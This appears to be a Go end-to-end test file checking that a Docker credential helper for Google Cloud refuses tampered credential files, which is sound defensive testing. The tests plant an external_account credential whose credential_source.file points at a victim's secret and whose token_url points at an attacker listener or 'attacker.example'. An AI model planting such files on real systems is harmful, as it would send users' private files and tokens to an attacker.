//go:build unix

package e2e

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/docker-credential-gcp/docker-credential-gcp/internal/fake"
)

// Another local user who can write one of the victim's credential files
// turns it into an external_account whose credential_source.file is any
// file the victim can read and whose token_url is the attacker's listener:
// the victim's next get would send that file's content away. These tests
// play that attack against every source that reads a credential file.

// attackerListener counts the requests that reach the attacker.
type attackerListener struct {
	*httptest.Server
	hits atomic.Int64
}

func newAttackerListener(t *testing.T) *attackerListener {
	t.Helper()
	a := &attackerListener{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"access_token":"ya29.attacker","issued_token_type":"urn:ietf:params:oauth:token-type:access_token","token_type":"Bearer","expires_in":3600}`))
	}))
	t.Cleanup(a.Close)
	return a
}

// plantedCredential writes an external_account JSON that sends the content
// of secretFile to tokenURL, at path, given to the attacker (foreign) or
// left the victim's but writable by everyone.
func plantedCredential(t *testing.T, path, secretFile, tokenURL string, foreign bool) {
	t.Helper()
	if foreign && os.Geteuid() != 0 {
		t.Skip("SKIP: simulating another user's files needs root; the world-writable case runs without it")
	}
	data, _ := json.Marshal(map[string]any{
		"type":               "external_account",
		"audience":           "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
		"subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
		"token_url":          tokenURL,
		"credential_source":  map[string]any{"file": secretFile},
	})
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	mode := os.FileMode(0o666)
	if foreign {
		mode = 0o644
		if err := os.Chown(path, attackerUID, attackerUID); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

func TestCredentialFileOthersCanWriteRefused(t *testing.T) {
	t.Parallel()
	sources := []struct {
		name  string
		setup func(t *testing.T, e *Env, path string)
		path  func(e *Env) string
	}{
		{"GOOGLE_APPLICATION_CREDENTIALS", func(t *testing.T, e *Env, path string) {
			e.Set("GOOGLE_APPLICATION_CREDENTIALS", path)
		}, func(e *Env) string { return filepath.Join(e.Home, "shared", "adc.json") }},
		{"binding", func(t *testing.T, e *Env, path string) {
			e.Set("DOCKER_CREDENTIAL_GCP_BINDINGS", "gcr.io="+path)
		}, func(e *Env) string { return filepath.Join(e.Home, "shared", "bound.json") }},
		{"gcloud ADC", func(t *testing.T, e *Env, path string) {}, func(e *Env) string {
			return filepath.Join(e.CloudSDK, "application_default_credentials.json")
		}},
		{"recorded --key-file", func(t *testing.T, e *Env, path string) {
			// Recorded while it was the victim's own, then taken over.
			good := fake.NewGoogle(t).ServiceAccountKey(t, "ci@proj.iam.gserviceaccount.com")
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, good, 0o600); err != nil {
				t.Fatal(err)
			}
			if r := e.Run("", "configure-docker", "--key-file", path); r.Code != 0 {
				t.Fatalf("configure-docker --key-file: exit %d, %s", r.Code, r.Stderr)
			}
		}, func(e *Env) string { return filepath.Join(e.Home, "shared", "key.json") }},
	}
	for _, foreign := range []bool{false, true} {
		for _, src := range sources {
			name := src.name + "/world-writable"
			if foreign {
				name = src.name + "/another user's"
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				e := NewEnv(t)
				attacker := newAttackerListener(t)
				secret := protoWrite(t, e.Home, "secret.txt", []byte("VICTIM-PRIVATE-DATA"))
				path := src.path(e)
				src.setup(t, e, path)
				plantedCredential(t, path, secret, attacker.URL+"/v1/token", foreign)

				r := e.Run("gcr.io", "get")
				why := "writable by group or others"
				if foreign {
					why = "owned by uid 65534"
				}
				if r.Code != 1 || !strings.Contains(r.Stdout, "refusing the credential file "+path) || !strings.Contains(r.Stdout, why) {
					t.Errorf("get: exit %d, stdout %q; want exit 1 refusing %s (%s)", r.Code, r.Stdout, path, why)
				}
				if strings.Count(strings.TrimSpace(r.Stdout), "\n") != 0 {
					t.Errorf("get: the refusal is not one line: %q", r.Stdout)
				}
				if d := e.Run("", "doctor"); !strings.Contains(d.Stdout, "refusing the credential file "+path) {
					t.Errorf("doctor does not say why the file is refused:\n%s", d.Stdout)
				}
				if n := attacker.hits.Load(); n != 0 {
					t.Errorf("the attacker's listener got %d requests", n)
				}
			})
		}
	}
}

// configure-docker refuses to record a credential file another user can
// write, for --key-file and --bind-credentials alike.
func TestConfigureDockerRefusesCredentialFileOthersCanWrite(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	attacker := newAttackerListener(t)
	path := filepath.Join(e.Home, "shared", "key.json")
	plantedCredential(t, path, "/etc/hostname", attacker.URL, false)
	for _, args := range [][]string{
		{"configure-docker", "--key-file", path},
		{"configure-docker", "--registries", "gcr.io", "--bind-credentials", path},
	} {
		r := e.Run("", args...)
		if r.Code != 1 || !strings.Contains(r.Stderr, "refusing the credential file "+path) || !strings.Contains(r.Stderr, "chmod go-w "+path) {
			t.Errorf("%v: exit %d, stderr %q; want refused naming %s and chmod go-w", args, r.Code, r.Stderr, path)
		}
	}
	if _, err := os.Stat(filepath.Join(e.ConfigHome, "docker-credential-gcp", "config.json")); err == nil {
		t.Error("a settings file was written")
	}
	// The file fixed as the error says, the same command records it.
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if r := e.Run("", "configure-docker", "--key-file", path); r.Code != 0 {
		t.Errorf("configure-docker --key-file of a fixed file: exit %d, %s", r.Code, r.Stderr)
	}
	if n := attacker.hits.Load(); n != 0 {
		t.Errorf("the attacker's listener got %d requests", n)
	}
}

// A credential file the user owns whose token_url is not Google's is
// refused before any request; HTTPS_PROXY points at a listener that would
// see an attempt.
func TestCredentialFileForeignTokenURLRefused(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	attacker := newAttackerListener(t)
	e.Set("HTTPS_PROXY", attacker.URL)
	secret := protoWrite(t, e.Home, "secret.txt", []byte("VICTIM-PRIVATE-DATA"))
	for _, u := range []string{"https://attacker.example/v1/token", "http://sts.googleapis.com/v1/token"} {
		path := filepath.Join(e.Home, "wif.json")
		plantedCredential(t, path, secret, u, false)
		if err := os.Chmod(path, 0o600); err != nil {
			t.Fatal(err)
		}
		e.Set("GOOGLE_APPLICATION_CREDENTIALS", path)
		r := e.Run("gcr.io", "get")
		if r.Code != 1 || !strings.Contains(r.Stdout, "token_url") || strings.Contains(r.Stdout, "://") {
			t.Errorf("token_url %s: exit %d, stdout %q; want refused naming token_url, without the URL", u, r.Code, r.Stdout)
		}
	}
	if n := attacker.hits.Load(); n != 0 {
		t.Errorf("the attacker's listener got %d requests", n)
	}
}
